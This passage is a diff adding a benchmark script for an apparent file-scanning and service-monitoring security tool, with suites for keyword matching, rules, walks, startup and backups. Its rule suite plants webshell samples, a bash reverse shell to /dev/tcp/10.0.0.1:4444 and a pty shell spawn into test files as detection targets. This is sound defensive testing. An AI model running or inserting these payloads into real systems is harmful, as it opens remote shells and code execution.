@@ -0,0 +1,1179 @@
+#!/usr/bin/env python3
+# Benchmarks for CustomManager hot paths.
+#
+# Usage: sudo python3 benchmark.py [SUITE ...] [--files N] [--size BYTES] [--seed N]
+#                                   [--chunk-size CHARS] [--paths N] [--units N] [--cycles N]
+#                                   [--workers N] [--attr-backend stub|ioctl] [--runs N]
+#                                   [--target SECONDS] [--output FILE] [--compare FILE]
+#                                   [--tolerance FRACTION] [--dirs N] [--flagged N]
+#
+# SUITE is one or more of keywords, attrs, services, startup, scan, walk,
+# rules, baseline, watch, integrity, backup, or "all" (default: keywords). Every suite runs against temp files:
+# cm.config, the .format files, caches and event logs are pointed into a temp
+# directory first. Timings are printed and, with --output, written as JSON.
+# --compare reads an earlier --output file, prints the change of every metric
+# and fails when a throughput drops (or a duration grows) by more than
+# --tolerance.
+#
+# keywords: builds a synthetic corpus, runs the original one-regex-per-keyword
+# loop and the compiled KeywordMatcher over it, checks that the findings are
+# identical and prints the timings of both. A small --chunk-size forces the
+# streaming scan across many chunk borders.
+#
+# attrs: creates --paths files, makes every other one immutable, and compares
+# immutable checks per second of the ioctl backend and of forking lsattr.
+#
+# services: points SYSTEMCTL at a stub that keeps unit states in a temp dir,
+# marks every fourth of --units down and compares one service_manager cycle
+# with the old one-is-active-per-unit loop (time, systemctl calls, restarts).
+# It also runs a ServiceMonitor on a simulated clock against a unit that never
+# comes back up and checks that it is quarantined after SERVICE_FLAP_THRESHOLD
+# restarts for every jitter seed.
+#
+# startup: runs "CustomManager.py restore --json" --runs times in an empty
+# directory and fails if the median cold start exceeds --target seconds, or if
+# a cold "restore --json" opens an event log or imports a module that only
+# other subcommands need (STARTUP_DEFERRED_MODULES).
+#
+# scan: builds a mixed corpus (--files files up to --size bytes, several
+# languages and keyword densities, some binary files) and times search_in_file
+# and key_search (cold with --workers, then a cached rerun) in MB/s and files/s.
+#
+# walk: builds a tree of --dirs directories with files, .git and node_modules
+# directories, hardlinks and FIFOs, and compares the old os.walk loop with
+# ScanWalker in files/s, checking that ScanWalker yields the same files minus the
+# excluded, duplicate and non-regular ones.
+#
+# rules: plants webshell, reverse shell and payload snippets in a mixed corpus,
+# times key_search with the keyword engine and with the rule engine, and checks
+# the rule findings against evaluating every rule with re.finditer over the
+# whole file. A small --chunk-size forces atoms across chunk borders. It also
+# scans files with "exec(" starting where the scan resumes after a chunk, with
+# rules using \b and a lookbehind, and checks them against the same reference.
+#
+# baseline: creates --flagged files with findings and times diff_findings against
+# the SQLite findings baseline: the first run (all new, every file hashed), an
+# unchanged rerun, and a rerun after changing, deleting and allowlisting a few.
+#
+# watch: builds a mixed corpus of --files files, times a full key_search sweep of
+# it and the ScanWatch setup, then writes --files / 10 new files (each three times,
+# some in a new directory) and times until the watch job has scanned them all.
+# A file root is written too, next to a file that is not a root. Checks that each
+# written file in the malicious dirs was scanned once and that the findings match
+# search_in_file.
+#
+# integrity: builds --paths protected files in nested directories and times
+# integrity_reconcile: the first pass (hash baseline build) and --cycles steady
+# passes. --attr-backend stub (default) uses stand-in lsattr/chattr scripts so
+# no real flags are set; ioctl uses the real inode flags (root only).
+#
+# backup: times write_backup_archive, a full restore_from_backup and a first and
+# an unchanged second incremental snapshot over a mixed corpus, in MB/s. Also
+# restores onto a tree with symlinks planted in it and checks that nothing
+# outside the restore target is written or has its mode changed.
+import os
+import re
+import sys
+import stat
+import shutil
+import time
+import random
+import json
+import argparse
+import tempfile
+import subprocess
+import threading
+import logging
+
+import custom_manager as cm
+
+FILLER_WORDS = [
+    "lorem", "ipsum", "dolor", "sit", "amet", "request", "handler", "config", "value",
+    "index", "return", "else", "while", "shells", "executive", "selected", "päth", "naïve",
+    "_private", "x86", "0x91", "data", "buffering", "users", "scripts"
+]
+PUNCTUATION = [" ", " ", " ", "\n", "\t", "(", ")", ".", ",", ";", "'", "\"", "=", "<", ">", "/", "$", "`", "[", "]"]
+# Extension and keyword languages of each synthetic corpus file kind
+CORPUS_LANGUAGES = {
+    '.php': ["PHP", "WebShell", "Base64", "SQL"],
+    '.py': ["Python", "Command Injection"],
+    '.js': ["JavaScript", "XSS"],
+    '.sh': ["Bash", "Linux", "HTTP", "Wget"],
+    '.c': ["C", "Buffer Overflow", "Shellcode"],
+    '.conf': ["Apache", "Nginx"],
+    '.txt': [],
+}
+CORPUS_DENSITIES = [0.0, 0.0005, 0.005, 0.02, 0.05]
+
+
+# Stand-in for systemctl. Unit states live in files under $STUB_SYSTEMCTL_DIR
+# (missing file = active) and every call is appended to calls.log.
+STUB_SYSTEMCTL = r'''#!/usr/bin/env python3
+import os, sys
+state_dir = os.environ['STUB_SYSTEMCTL_DIR']
+with open(os.path.join(state_dir, 'calls.log'), 'a') as log:
+    log.write(' '.join(sys.argv[1:]) + '\n')
+
+def state(unit):
+    try:
+        with open(os.path.join(state_dir, unit)) as f:
+            return f.read().strip()
+    except FileNotFoundError:
+        return 'active'
+
+args = sys.argv[1:]
+if args[0] == 'show':
+    units = args[args.index('--') + 1:]
+    blocks = [f"Id={u}\nLoadState=loaded\nActiveState={state(u)}\nSubState=running" for u in units]
+    print('\n\n'.join(blocks))
+elif args[0] == 'is-active':
+    unit = args[-1]
+    if '--quiet' not in args:
+        print(state(unit))
+    sys.exit(0 if state(unit) == 'active' else 3)
+elif args[0] == 'restart':
+    with open(os.path.join(state_dir, args[1]), 'w') as f:
+        f.write('active')
+'''
+
+
+# Stand-ins for lsattr and chattr. Immutable paths are marker files under
+# $STUB_ATTR_DIR (path with '/' replaced by '%').
+STUB_LSATTR = r'''#!/usr/bin/env python3
+import os, sys
+path = sys.argv[-1]
+marker = os.path.join(os.environ['STUB_ATTR_DIR'], path.replace('/', '%'))
+print(('----i---------e-----' if os.path.exists(marker) else '--------------e-----') + ' ' + path)
+'''
+
+STUB_CHATTR = r'''#!/usr/bin/env python3
+import os, sys
+marker = os.path.join(os.environ['STUB_ATTR_DIR'], sys.argv[-1].replace('/', '%'))
+if sys.argv[1] == '+i':
+    open(marker, 'w').close()
+elif os.path.exists(marker):
+    os.remove(marker)
+'''
+
+
+# Function to write an executable stub script and return its path
+def write_stub(root, name, source):
+    path = os.path.join(root, name)
+    with open(path, 'w') as f:
+        f.write(source)
+    os.chmod(path, 0o755)
+    return path
+
+
+# Function to point every file CustomManager reads or writes into root
+def sandbox(root):
+    for name, file_name in [('CONFIG_PATH', 'cm.config'), ('FS_FORMAT_PATH', 'fs.format'),
+                            ('SERVICEUP_FORMAT_PATH', 'serviceup.format'),
+                            ('MALICIOUSKEYS_FORMAT_PATH', 'maliciouskeys.format'),
+                            ('MALICIOUSDIR_FORMAT_PATH', 'maliciousdir.format'),
+                            ('BACKUP_FORMAT_PATH', 'backup.format'), ('HASH_INDEX_PATH', 'hash.index'),
+                            ('SCAN_CACHE_PATH', 'scan.cache'), ('RULES_PATH', 'scan.rules'),
+                            ('RULES_CACHE_PATH', 'scan.rules.cache'),
+                            ('FINDINGS_BASELINE_PATH', 'findings.db'), ('SERVICE_STATS_PATH', 'service_stats.json')]:
+        setattr(cm, name, os.path.join(root, file_name))
+    for name in cm.EVENT_LOG_FILES:
+        cm.EVENT_LOG_FILES[name] = os.path.join(root, f"{name}.log")
+    cm.config.invalidate()
+
+
+# Reference implementation: the original per-unit service_manager loop body
+def legacy_service_cycle(services):
+    for service in services:
+        result = subprocess.run([cm.SYSTEMCTL, 'is-active', '--quiet', service])
+        if result.returncode != 0:
+            subprocess.run([cm.SYSTEMCTL, 'restart', service], check=True)
+
+
+# Reference implementation: the original iter_scan_paths walk
+def legacy_scan_paths(malicious_dirs):
+    for dir_path in malicious_dirs:
+        if os.path.exists(dir_path):
+            if os.path.isdir(dir_path):
+                for root, dirs, files in os.walk(dir_path):
+                    dirs.sort()
+                    for file in sorted(files):
+                        yield os.path.join(root, file)
+            elif os.path.isfile(dir_path):
+                yield dir_path
+
+
+# Reference implementation: the original per-keyword loop from search_in_file
+def legacy_search_in_file(file_path, malicious_keywords, found_keywords):
+    with open(file_path, 'r', errors='ignore') as f:
+        content = f.read()
+        for language, keywords in malicious_keywords.items():
+            for keyword in keywords:
+                if re.search(r'\b' + re.escape(keyword) + r'\b', content):
+                    if file_path not in found_keywords:
+                        found_keywords[file_path] = []
+                    found_keywords[file_path].append(f"{language} keyword: {keyword}")
+        if re.search(r'\bexec\(', content) or re.search(r'\bsubprocess\.', content):
+            if file_path not in found_keywords:
+                found_keywords[file_path] = []
+            found_keywords[file_path].append("Suspicious function calls detected")
+        if re.search(r'\bimport\srequests\b', content):
+            if file_path not in found_keywords:
+                found_keywords[file_path] = []
+            found_keywords[file_path].append("Requests library usage detected")
+
+
+# Function to build a synthetic corpus of files mixing filler text and keywords
+def make_corpus(root, files, size, seed, keyword_density=0.02):
+    rng = random.Random(seed)
+    all_keywords = [k for keywords in cm.keywords1.values() for k in keywords]
+    paths = []
+    for idx in range(files):
+        parts = []
+        length = 0
+        target = rng.randint(size // 4, size)
+        while length < target:
+            if rng.random() < keyword_density:
+                word = rng.choice(all_keywords)
+            else:
+                word = rng.choice(FILLER_WORDS)
+            piece = word + rng.choice(PUNCTUATION)
+            parts.append(piece)
+            length += len(piece)
+        path = os.path.join(root, f"sample_{idx}.txt")
+        with open(path, 'w') as f:
+            f.write(''.join(parts))
+        paths.append(path)
+    return paths
+
+
+# Function to write one synthetic file of about size bytes. Keywords are drawn
+# from languages (all of keywords1 when empty) with the given density.
+def write_synthetic_file(path, size, rng, languages, density):
+    pool = [k for language in languages for k in cm.keywords1.get(language, [])]
+    pool = pool or [k for keywords in cm.keywords1.values() for k in keywords]
+    parts = []
+    length = 0
+    while length < size:
+        word = rng.choice(pool) if rng.random() < density else rng.choice(FILLER_WORDS)
+        piece = word + rng.choice(PUNCTUATION)
+        parts.append(piece)
+        length += len(piece)
+    with open(path, 'w') as f:
+        f.write(''.join(parts))
+
+
+# Function to build a mixed corpus under root: files spread over nested
+# directories, sizes log-uniform between 512 bytes and size, one language per
+# extension, a random keyword density per file and about 5% binary files.
+# Returns the list of paths.
+def make_mixed_corpus(root, files, size, seed):
+    rng = random.Random(seed)
+    extensions = list(CORPUS_LANGUAGES)
+    paths = []
+    for idx in range(files):
+        directory = os.path.join(root, f"dir{idx % 7}", f"sub{idx % 3}")
+        os.makedirs(directory, exist_ok=True)
+        file_size = int(512 * (max(size, 512) / 512) ** rng.random())
+        if rng.random() < 0.05:
+            path = os.path.join(directory, f"blob_{idx}.bin")
+            with open(path, 'wb') as f:
+                f.write(rng.randbytes(file_size))
+        else:
+            extension = rng.choice(extensions)
+            path = os.path.join(directory, f"file_{idx}{extension}")
+            write_synthetic_file(path, file_size, rng, CORPUS_LANGUAGES[extension], rng.choice(CORPUS_DENSITIES))
+        paths.append(path)
+    return paths
+
+
+# Function to time one search implementation over the corpus
+def run_search(search, paths, keywords):
+    found = {}
+    start = time.perf_counter()
+    for path in paths:
+        search(path, keywords, found)
+    return found, time.perf_counter() - start
+
+
+def bench_keywords(args, results):
+    with tempfile.TemporaryDirectory() as root:
+        paths = make_corpus(root, args.files, args.size, args.seed)
+        total_bytes = sum(os.path.getsize(p) for p in paths)
+        legacy_found, legacy_time = run_search(legacy_search_in_file, paths, cm.keywords1)
+        found, matcher_time = run_search(cm.search_in_file, paths, cm.keywords1)
+
+    mb = total_bytes / (1024 * 1024)
+    print(f"Corpus: {len(paths)} files, {mb:.2f} MB")
+    print(f"Per-keyword loop: {legacy_time:.3f}s ({mb / legacy_time:.2f} MB/s)")
+    print(f"Compiled matcher: {matcher_time:.3f}s ({mb / matcher_time:.2f} MB/s)")
+    print(f"Speedup: {legacy_time / matcher_time:.1f}x")
+    results['keywords'] = {'files': len(paths), 'bytes': total_bytes, 'legacy_mb_s': mb / legacy_time,
+                           'matcher_mb_s': mb / matcher_time, 'speedup': legacy_time / matcher_time}
+    if found != legacy_found:
+        print("MISMATCH: compiled matcher findings differ from the per-keyword loop")
+        return 1
+    print(f"Findings identical ({sum(len(v) for v in found.values())} findings)")
+    return 0
+
+
+def bench_attrs(args, results):
+    with tempfile.TemporaryDirectory() as root:
+        paths = []
+        for idx in range(args.paths):
+            path = os.path.join(root, f"protected_{idx}")
+            with open(path, 'w') as f:
+                f.write("protected\n")
+            paths.append(path)
+        marked = paths[::2]
+        try:
+            for path in marked:
+                if not cm.set_inode_flags(path, cm.get_inode_flags(path) | cm.FS_IMMUTABLE_FL):
+                    print("Filesystem does not support FS_IOC_SETFLAGS, checking unmarked paths only")
+                    marked = []
+                    break
+        except (OSError, TypeError) as e:
+            print(f"Cannot set immutable flags ({e}), checking unmarked paths only")
+            marked = []
+        try:
+            start = time.perf_counter()
+            ioctl_results = [cm.check_immutable(path, 'file') for path in paths]
+            ioctl_time = time.perf_counter() - start
+            start = time.perf_counter()
+            lsattr_results = [cm.check_immutable_lsattr(path, 'file') for path in paths]
+            lsattr_time = time.perf_counter() - start
+        finally:
+            for path in marked:
+                cm.set_inode_flags(path, cm.get_inode_flags(path) & ~cm.FS_IMMUTABLE_FL)
+
+    print(f"Paths: {len(paths)} ({len(marked)} immutable)")
+    print(f"ioctl:  {len(paths) / ioctl_time:.0f} checks/s")
+    print(f"lsattr: {len(paths) / lsattr_time:.0f} checks/s")
+    print(f"Speedup: {lsattr_time / ioctl_time:.1f}x")
+    results['attrs'] = {'paths': len(paths), 'ioctl_checks_s': len(paths) / ioctl_time,
+                        'lsattr_checks_s': len(paths) / lsattr_time, 'speedup': lsattr_time / ioctl_time}
+    if ioctl_results != lsattr_results:
+        print("MISMATCH: ioctl and lsattr disagree on the immutable flag")
+        return 1
+    print(f"Results identical ({sum(ioctl_results)} immutable)")
+    return 0
+
+
+def bench_services(args, results):
+    with tempfile.TemporaryDirectory() as root:
+        stub = write_stub(root, 'systemctl', STUB_SYSTEMCTL)
+        os.environ['STUB_SYSTEMCTL_DIR'] = root
+        cm.SYSTEMCTL = stub
+        services = [f"bench{idx}.service" for idx in range(args.units)]
+        down = services[::4]
+        log_path = os.path.join(root, 'calls.log')
+
+        def run(cycle):
+            for service in down:
+                with open(os.path.join(root, service), 'w') as f:
+                    f.write('failed')
+            open(log_path, 'w').close()
+            start = time.perf_counter()
+            cycle(services)
+            elapsed = time.perf_counter() - start
+            with open(log_path) as f:
+                calls = f.read().splitlines()
+            restarted = sorted(c.split()[1] for c in calls if c.startswith('restart'))
+            return elapsed, len(calls), restarted
+
+        legacy_time, legacy_calls, legacy_restarted = run(legacy_service_cycle)
+        batched_time, batched_calls, batched_restarted = run(cm.service_check_cycle)
+
+    print(f"Units: {len(services)} ({len(down)} down)")
+    print(f"Per-unit loop: {legacy_time:.3f}s, {legacy_calls} systemctl calls")
+    print(f"Batched cycle: {batched_time:.3f}s, {batched_calls} systemctl calls")
+    print(f"Speedup: {legacy_time / batched_time:.1f}x")
+    results['services'] = {'units': len(services), 'down': len(down), 'legacy_cycle_s': legacy_time,
+                           'batched_cycle_s': batched_time, 'legacy_calls': legacy_calls,
+                           'batched_calls': batched_calls, 'speedup': legacy_time / batched_time}
+    if batched_restarted != legacy_restarted or batched_restarted != sorted(down):
+        print("MISMATCH: batched cycle restarted a different set of units")
+        return 1
+    print(f"Restarted units identical ({len(batched_restarted)} restarted)")
+    restarts = [simulate_failed_unit(seed) for seed in range(20)]
+    if any(count != cm.SERVICE_FLAP_THRESHOLD for count in restarts):
+        print(f"MISMATCH: a unit that stays down was restarted {restarts} times in an hour, "
+              f"expected {cm.SERVICE_FLAP_THRESHOLD} before quarantine")
+        return 1
+    print(f"A unit that stays down is quarantined after {cm.SERVICE_FLAP_THRESHOLD} restarts (20 jitter seeds)")
+    return 0
+
+
+# Monotonic clock the service simulation advances by hand; everything else is the time module
+class SimulatedClock:
+    def __init__(self):
+        self.now = 0.0
+
+    def monotonic(self):
+        return self.now
+
+    def __getattr__(self, name):
+        return getattr(time, name)
+
+
+# Function to run a ServiceMonitor on a simulated clock for an hour (one check
+# every SERVICE_INTERVAL) against a unit that never comes back up. Returns how
+# many restarts it attempted before SERVICE_QUARANTINE_TIME ran out.
+def simulate_failed_unit(seed):
+    clock = SimulatedClock()
+    patched = {'time': clock, 'query_service_states': lambda services: {s: 'failed' for s in services},
+               'restart_service': lambda service: False}
+    saved = {name: getattr(cm, name) for name in patched}
+    random.seed(seed)
+    monitor = None
+    try:
+        for name, value in patched.items():
+            setattr(cm, name, value)
+        monitor = cm.ServiceMonitor()
+        logging.disable(logging.ERROR)
+        while clock.now < min(3600, cm.SERVICE_QUARANTINE_TIME):
+            monitor.cycle(['failed.service'], wait=True)
+            clock.now += cm.SERVICE_INTERVAL
+        return monitor.units['failed.service']['restarts']
+    finally:
+        logging.disable(logging.NOTSET)
+        for name, value in saved.items():
+            setattr(cm, name, value)
+        if monitor is not None:
+            monitor.pool.shutdown()
+
+
+# Modules a cold "restore --json" must not import: only the subcommands that
+# need them do (asyncio for the scheduler, tarfile/gzip for backups, ...)
+STARTUP_DEFERRED_MODULES = ['asyncio', 'tarfile', 'gzip', 'ctypes', 'hashlib', 'subprocess', 'logging.handlers',
+                            'sqlite3', 'pickle', 'zstandard', 'concurrent.futures.process']
+
+# Checked in a fresh interpreter: importing custom_manager and listing the
+# backups must open no event log and import none of STARTUP_DEFERRED_MODULES
+STARTUP_IMPORT_CHECK = '''
+import sys, io, logging, contextlib
+import custom_manager as cm
+with contextlib.redirect_stdout(io.StringIO()):
+    cm.main(['restore', '--json'])
+opened = [name for name in cm.EVENT_LOG_FILES if logging.getLogger(name).handlers]
+print(','.join(opened + [name for name in sys.argv[1:] if name in sys.modules]))
+'''
+
+
+def bench_startup(args, results):
+    script = os.path.join(os.path.dirname(os.path.abspath(cm.__file__)), 'CustomManager.py')
+    # Time runs the way an installed copy starts: custom_manager's bytecode is
+    # cached by an untimed first run, even if the caller disabled writing it
+    env = {name: value for name, value in os.environ.items() if name != 'PYTHONDONTWRITEBYTECODE'}
+    with tempfile.TemporaryDirectory() as root:
+        subprocess.run([sys.executable, script, 'restore', '--json'], cwd=root, capture_output=True, env=env)
+        times = []
+        for _ in range(args.runs):
+            start = time.perf_counter()
+            result = subprocess.run([sys.executable, script, 'restore', '--json'], cwd=root, capture_output=True, text=True,
+                                    env=env)
+            times.append(time.perf_counter() - start)
+            if result.returncode != 0:
+                print(f"FAILED: restore --json exited with {result.returncode}: {result.stderr.strip()}")
+                return 1
+        baseline = []
+        for _ in range(args.runs):
+            start = time.perf_counter()
+            subprocess.run([sys.executable, '-c', 'pass'], cwd=root)
+            baseline.append(time.perf_counter() - start)
+        check = subprocess.run([sys.executable, '-c', STARTUP_IMPORT_CHECK, *STARTUP_DEFERRED_MODULES], cwd=root, capture_output=True, text=True,
+                               env=dict(os.environ, PYTHONPATH=os.path.dirname(script)))
+    median = sorted(times)[len(times) // 2]
+    interpreter = sorted(baseline)[len(baseline) // 2]
+    print(f"Cold start: median {median * 1000:.1f} ms, min {min(times) * 1000:.1f} ms over {len(times)} runs")
+    print(f"Bare interpreter: median {interpreter * 1000:.1f} ms")
+    results['startup'] = {'median_s': median, 'min_s': min(times), 'interpreter_s': interpreter}
+    loaded = check.stdout.strip()
+    if check.returncode != 0 or loaded:
+        print(f"FAILED: a cold restore --json loaded {loaded or check.stderr.strip()}")
+        return 1
+    if median > args.target:
+        print(f"FAILED: cold start over the {args.target * 1000:.0f} ms target")
+        return 1
+    print(f"Within the {args.target * 1000:.0f} ms target")
+    return 0
+
+
+def bench_scan(args, results):
+    with tempfile.TemporaryDirectory() as root:
+        corpus = os.path.join(root, 'corpus')
+        paths = make_mixed_corpus(corpus, args.files, args.size, args.seed)
+        total_bytes = sum(os.path.getsize(p) for p in paths)
+        with open(cm.MALICIOUSDIR_FORMAT_PATH, 'w') as f:
+            f.write(corpus + '\n')
+        if os.path.exists(cm.SCAN_CACHE_PATH):
+            os.remove(cm.SCAN_CACHE_PATH)
+        matcher = cm.config.get().matcher
+        serial_found, serial_time = run_search(cm.search_in_file, paths, matcher)
+        start = time.perf_counter()
+        cold_found = cm.key_search(workers=args.workers, use_cache=True, report=False)
+        cold_time = time.perf_counter() - start
+        start = time.perf_counter()
+        cached_found = cm.key_search(workers=args.workers, use_cache=True, report=False)
+        cached_time = time.perf_counter() - start
+        start = time.perf_counter()
+        ranked_found = cm.key_search(workers=args.workers, use_cache=False, report=False, scoring=True)
+        ranked_time = time.perf_counter() - start
+
+    mb = total_bytes / (1024 * 1024)
+    print(f"Corpus: {len(paths)} files, {mb:.2f} MB")
+    print(f"search_in_file: {serial_time:.3f}s ({mb / serial_time:.2f} MB/s, {len(paths) / serial_time:.0f} files/s)")
+    print(f"key_search ({args.workers} workers): {cold_time:.3f}s ({mb / cold_time:.2f} MB/s, "
+          f"{len(paths) / cold_time:.0f} files/s)")
+    print(f"key_search cached rerun: {cached_time:.3f}s ({len(paths) / cached_time:.0f} files/s)")
+    print(f"key_search ranked (threshold {cm.SCAN_SCORE_THRESHOLD}): {ranked_time:.3f}s "
+          f"({mb / ranked_time:.2f} MB/s, {len(paths) / ranked_time:.0f} files/s)")
+    results['scan'] = {'files': len(paths), 'bytes': total_bytes, 'workers': args.workers,
+                       'search_in_file_mb_s': mb / serial_time, 'search_in_file_files_s': len(paths) / serial_time,
+                       'key_search_mb_s': mb / cold_time, 'key_search_files_s': len(paths) / cold_time,
+                       'key_search_cached_files_s': len(paths) / cached_time,
+                       'key_search_ranked_mb_s': mb / ranked_time,
+                       'findings': sum(len(v) for v in serial_found.values())}
+    if cold_found != serial_found or cached_found != serial_found:
+        print("MISMATCH: key_search findings differ from search_in_file")
+        return 1
+    # Early exit may drop findings past the threshold, but never adds or misses a file
+    if set(ranked_found) != set(serial_found) or any(not set(v) <= set(serial_found[k])
+                                                     for k, v in ranked_found.items()):
+        print("MISMATCH: ranked key_search findings are not a subset of search_in_file")
+        return 1
+    print(f"Findings identical ({results['scan']['findings']} findings in {len(serial_found)} files)")
+    return 0
+
+
+# Function to build a tree of n directories, each with a few files, a .git and
+# a node_modules directory, a hardlink and a FIFO. Returns the files a walk
+# should yield (sorted) and the total number of non-directory entries.
+def make_walk_tree(root, n):
+    expected = []
+    entries = 0
+    for idx in range(n):
+        directory = os.path.join(root, f"d{idx % 10}", f"site{idx}")
+        for sub in ('.git', 'node_modules'):
+            os.makedirs(os.path.join(directory, sub, 'objects'))
+            with open(os.path.join(directory, sub, 'objects', 'blob'), 'w') as f:
+                f.write("x\n")
+            entries += 1
+        for file_idx in range(8):
+            path = os.path.join(directory, f"page{file_idx}.php")
+            with open(path, 'w') as f:
+                f.write("<?php echo 1; ?>\n")
+            expected.append(path)
+        os.link(os.path.join(directory, 'page0.php'), os.path.join(directory, 'zz_hardlink.php'))
+        os.mkfifo(os.path.join(directory, 'zz_pipe'))
+        entries += 10
+    return sorted(expected), entries
+
+
+def bench_walk(args, results):
+    with tempfile.TemporaryDirectory() as root:
+        expected, entries = make_walk_tree(root, args.dirs)
+        start = time.perf_counter()
+        legacy = list(legacy_scan_paths([root]))
+        legacy_time = time.perf_counter() - start
+        walker = cm.ScanWalker(cm.SCAN_EXCLUDES)
+        start = time.perf_counter()
+        walked = list(walker.walk([root]))
+        walk_time = time.perf_counter() - start
+        start = time.perf_counter()
+        walked_stats = list(walker.walk([root], stats=True))
+        stats_time = time.perf_counter() - start
+
+    print(f"Tree: {args.dirs} directories, {entries} entries, {len(expected)} files to scan")
+    print(f"os.walk (old): {legacy_time:.3f}s ({len(legacy)} paths, {entries / legacy_time:.0f} entries/s)")
+    print(f"ScanWalker: {walk_time:.3f}s ({len(walked)} paths, {entries / walk_time:.0f} entries/s)")
+    print(f"ScanWalker with stats: {stats_time:.3f}s ({entries / stats_time:.0f} entries/s)")
+    results['walk'] = {'dirs': args.dirs, 'entries': entries, 'legacy_files_s': entries / legacy_time,
+                       'walk_files_s': entries / walk_time, 'walk_stats_files_s': entries / stats_time}
+    if sorted(walked) != expected or sorted(path for path, _ in walked_stats) != expected:
+        print("MISMATCH: ScanWalker did not yield exactly the non-excluded regular files")
+        return 1
+    print("Walk matches (excluded dirs, hardlinks and FIFOs skipped)")
+    return 0
+
+
+# Snippets planted by the rules suite, matching the DEFAULT_RULES
+RULE_SNIPPETS = [
+    '<?php @eval(base64_decode($_POST["p"])); ?>',
+    '$cmd = $_GET["c"]; system($cmd);',
+    'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
+    'import pty; pty.spawn("/bin/sh")',
+    'subprocess.call(args)',
+    'import requests',
+    'payload = "' + 'QUJDRA' * 60 + '"',
+]
+
+
+# Function to plant a random snippet in every fourth text file of paths
+def plant_rule_snippets(paths, rng):
+    for idx, path in enumerate(paths):
+        if idx % 4 or path.endswith('.bin'):
+            continue
+        with open(path) as f:
+            content = f.read()
+        cut = rng.randrange(len(content) + 1)
+        with open(path, 'w') as f:
+            f.write(content[:cut] + ' ' + rng.choice(RULE_SNIPPETS) + ' ' + content[cut:])
+
+
+# Reference implementation: every rule evaluated with one re.finditer per atom
+# over the whole file
+def reference_rule_findings(paths, ruleset):
+    found = {}
+    for path in paths:
+        with open(path, 'rb') as f:
+            if cm.is_binary(f.read(cm.BINARY_SNIFF_SIZE)):
+                continue
+        with open(path, 'r', errors='ignore') as f:
+            content = f.read()
+        counts = [len(re.findall(atom, content)) for atom in ruleset.atoms]
+        matched = [cm.RULE_FINDING_PREFIX + ruleset.rules[index][0] for index in ruleset.rules_for(path)
+                   if cm.evaluate_condition(ruleset.rules[index][5], counts)]
+        if matched:
+            found[path] = matched
+    return found
+
+
+# Rules whose atoms look at the text before a match, for the chunk border check
+BORDER_RULES = [
+    {"name": "border_word", "regex": {"call": r"\bexec\("}},
+    {"name": "border_lookbehind", "regex": {"call": r"(?<!my)exec\("}},
+    {"name": "border_count", "regex": {"call": r"\bexec\("}, "condition": "#call >= 2"},
+]
+BORDER_CHUNK_SIZE = 1024
+
+
+# Function to write files that put "myexec(" or " exec(" so that "exec(" starts
+# at and around the offsets where RuleScan resumes after a chunk, each after an
+# " exec(" near the start of the file
+def make_border_files(root):
+    os.makedirs(root)
+    paths = []
+    for border in range(1, 3):
+        resume = border * BORDER_CHUNK_SIZE - cm.RULE_MAX_ATOM_LENGTH
+        for start in range(resume - 4, resume + 5):
+            for prefix in ('my', ' '):
+                content = ' exec(' + '.' * (start - len(prefix) - 6) + prefix + 'exec(' + '.' * BORDER_CHUNK_SIZE
+                path = os.path.join(root, f"border{len(paths)}.txt")
+                with open(path, 'w') as f:
+                    f.write(content)
+                paths.append(path)
+    return paths
+
+
+# Function to scan files with BORDER_RULES in BORDER_CHUNK_SIZE chunks, and
+# the reference findings for them
+def border_rule_findings(root):
+    paths = make_border_files(root)
+    ruleset = cm.RuleSet.compile(BORDER_RULES)
+    saved = cm.SCAN_CHUNK_SIZE
+    cm.SCAN_CHUNK_SIZE = BORDER_CHUNK_SIZE
+    try:
+        found = {}
+        for path in paths:
+            cm.search_in_file(path, None, found, ruleset=ruleset)
+    finally:
+        cm.SCAN_CHUNK_SIZE = saved
+    return len(paths), found, reference_rule_findings(paths, ruleset)
+
+
+def bench_rules(args, results):
+    with tempfile.TemporaryDirectory() as root:
+        corpus = os.path.join(root, 'corpus')
+        paths = make_mixed_corpus(corpus, args.files, args.size, args.seed)
+        plant_rule_snippets(paths, random.Random(args.seed))
+        total_bytes = sum(os.path.getsize(p) for p in paths)
+        with open(cm.MALICIOUSDIR_FORMAT_PATH, 'w') as f:
+            f.write(corpus + '\n')
+        ruleset = cm.config.get().ruleset
+        timings = {}
+        found = {}
+        for engine in ('keywords', 'rules'):
+            start = time.perf_counter()
+            found[engine] = cm.key_search(workers=args.workers, use_cache=False, report=False, engine=engine)
+            timings[engine] = time.perf_counter() - start
+        reference = reference_rule_findings(paths, ruleset)
+        border_files, border_found, border_reference = border_rule_findings(os.path.join(root, 'border'))
+
+    mb = total_bytes / (1024 * 1024)
+    print(f"Corpus: {len(paths)} files, {mb:.2f} MB, {len(ruleset.rules)} rules, {len(ruleset.atoms)} atoms")
+    for engine in ('keywords', 'rules'):
+        findings = sum(len(v) for v in found[engine].values())
+        print(f"{engine}: {timings[engine]:.3f}s ({mb / timings[engine]:.2f} MB/s), "
+              f"{findings} findings in {len(found[engine])} files")
+    results['rules'] = {'files': len(paths), 'bytes': total_bytes, 'workers': args.workers,
+                        'keywords_mb_s': mb / timings['keywords'], 'rules_mb_s': mb / timings['rules'],
+                        'keyword_findings': sum(len(v) for v in found['keywords'].values()),
+                        'rule_findings': sum(len(v) for v in found['rules'].values())}
+    if found['rules'] != reference:
+        print("MISMATCH: rule findings differ from the re.finditer reference")
+        return 1
+    print(f"Rule findings identical to the reference ({len(reference)} files)")
+    if border_found != border_reference:
+        print("MISMATCH: rule findings at chunk borders differ from the re.finditer reference")
+        return 1
+    print(f"Rule findings at chunk borders identical to the reference ({border_files} files)")
+    return 0
+
+
+def bench_baseline(args, results):
+    with tempfile.TemporaryDirectory() as root:
+        found = {}
+        for idx in range(args.flagged):
+            directory = os.path.join(root, f"d{idx % 100}")
+            os.makedirs(directory, exist_ok=True)
+            path = os.path.join(directory, f"f{idx}.php")
+            with open(path, 'w') as f:
+                f.write(f"<?php eval($_GET['{idx}']); ?>\n")
+            found[path] = ["PHP keyword: eval"]
+        walked = set(found)
+        timings = {}
+        with cm.FindingsBaseline(os.path.join(root, 'findings.db')) as baseline:
+            start = time.perf_counter()
+            first = cm.diff_findings(found, walked, baseline)
+            timings['first'] = time.perf_counter() - start
+            start = time.perf_counter()
+            steady = cm.diff_findings(found, walked, baseline)
+            timings['steady'] = time.perf_counter() - start
+            paths = list(found)
+            changed, deleted, allowed = paths[0:10], paths[10:20], paths[20:30]
+            for path in changed:
+                with open(path, 'a') as f:
+                    f.write("system($x);\n")
